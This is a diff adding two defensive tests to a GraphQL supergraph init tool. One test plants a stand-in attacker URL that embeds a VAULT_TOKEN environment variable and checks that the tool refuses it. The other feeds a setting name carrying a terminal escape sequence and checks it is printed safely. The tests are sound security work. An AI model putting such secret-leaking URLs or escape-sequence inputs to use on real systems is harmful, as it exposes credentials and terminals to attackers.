@@ -172,6 +172,22 @@ describe('from a composed supergraph', () => {
     expect(engine.services.has('reviews')).toBe(true);
   });
 
+  test('a URL that would be expanded is refused: what is secret here would be sent there', async () => {
+    const sdl = composed().replace('https://products.example/graphql', 'https://evil.example/${VAULT_TOKEN}');
+    await expect(init([await saved('theirs.graphql', sdl)])).rejects.toMatchObject({
+      problems: [{ problem: expect.stringMatching(/has a URL with/) }],
+    });
+    expect(existsSync(inFolder('supergraph.yaml'))).toBe(false);
+  });
+
+  test('names of settings reach the terminal without control characters', async () => {
+    await saved('theirs.graphql', composed());
+    await saved('router.yaml', 'headers: {}\n"\\e]0;owned\\a": { a: 1 }\n');
+    const printed = await init([inFolder('router.yaml'), inFolder('theirs.graphql')]);
+    expect(printed).toContain('?]0;owned?');
+    expect(printed).not.toMatch(/(?!\n)\p{Cc}/u);
+  });
+
   test('a file that is no supergraph is refused', async () => {
     const file = await saved('theirs.graphql', 'type Query { a: Int }');
     await expect(init([file])).rejects.toMatchObject({
